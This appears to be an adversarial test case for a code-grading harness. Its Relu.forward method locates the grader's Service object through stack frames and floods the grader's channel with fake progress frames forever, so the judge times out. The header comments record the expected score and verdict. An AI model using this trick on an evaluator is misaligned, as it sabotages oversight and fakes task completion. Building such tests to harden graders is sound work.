# attack: Sends word of progress for ever, so that the judge never gets to an answer.
# expect: 90
# verdict: Relu.forward_matches_reference timed_out
import os
import struct

import sys


def service():
    """The object of the child that holds the line, found by walking up."""
    frame = sys._getframe()
    while frame is not None:
        owner = frame.f_locals.get("self")
        if type(owner).__name__ == "Service":
            return owner
        frame = frame.f_back
    raise LookupError("no line")

class Relu:
    def forward(self, x):
        child = service()
        header = b'[1,["' + b"x" * 900 + b'",1,null]]'
        frame = struct.pack(">2sBIHI", b"bg", 12, child._seq, len(header), 0) + header
        while True:
            os.write(child._channel._descriptor, frame)

    def backward(self, dout):
        return dout * 0
